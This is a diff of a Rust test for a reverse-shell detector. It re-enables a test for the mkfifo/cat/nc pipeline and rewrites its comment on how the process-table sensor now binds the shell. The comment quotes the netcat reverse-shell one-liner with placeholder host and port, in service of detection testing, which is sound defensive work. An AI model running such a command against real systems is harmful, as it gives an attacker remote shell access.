@@ -496,12 +496,10 @@ fn mkfifo_nc_pipeline_reverse_shell() {
 }
 
 /// The canonical `cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f`: `cat` opens the FIFO as an
-/// argument (fd 3), so no stdio link from nc's FIFO to the shell is visible to the sensor, and
-/// the process table does not bind a shell whose *output* feeds a connected relay. The agent
-/// delivers every event (verified by hand: sh -i stdout pipe == nc stdin pipe, nc connect);
-/// the gap is in ward-proctable. Run with `--ignored` once it is closed.
+/// argument (fd 3), so no stdio link from nc's FIFO to the shell is visible to the sensor. The
+/// shell is bound through the pipe loop instead: its stdout pipe is nc's stdin, nc is connected
+/// and writes into the FIFO, and the shell reads a pipe.
 #[test]
-#[ignore = "detector gap in ward-proctable: shell output piped into a connected relay is not bound"]
 fn mkfifo_cat_pipeline_reverse_shell() {
     let images = require_containers!();
     let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-fifocat", |p| {
